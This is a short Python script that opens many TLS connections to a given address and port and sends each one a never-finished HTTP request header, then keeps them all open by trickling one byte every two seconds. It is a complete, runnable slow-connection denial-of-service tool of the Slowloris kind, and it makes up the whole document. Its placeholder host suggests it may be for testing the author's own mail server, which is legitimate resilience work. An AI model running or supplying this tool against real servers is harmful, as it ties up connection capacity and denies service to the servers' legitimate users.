"""Slow clients of HTTPS: each completes the handshake and begins a request that never ends, an octet in two seconds.

Arguments: address, port, how many. Prints how many of them were let in. Runs until it is killed.
"""

import socket
import ssl
import sys
import time

address, port, many = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
clients = []
for number in range(many):
    try:
        connection = socket.create_connection((address, port), timeout=0.2)
        client = context.wrap_socket(connection, server_hostname="mail.home.example")
        client.sendall(b"GET / HTTP/1.1\r\nHost: mail.home.example\r\nX-Slow: ")
        clients.append(client)
    except OSError:
        # Kept out, as a client of so many connections may be.
        if number - len(clients) > 20:
            break
print(f"tried {number + 1} slow clients, of which {len(clients)} were let in", flush=True)
while True:
    for client in clients:
        try:
            client.send(b"x")
        except OSError:
            pass
    time.sleep(2)
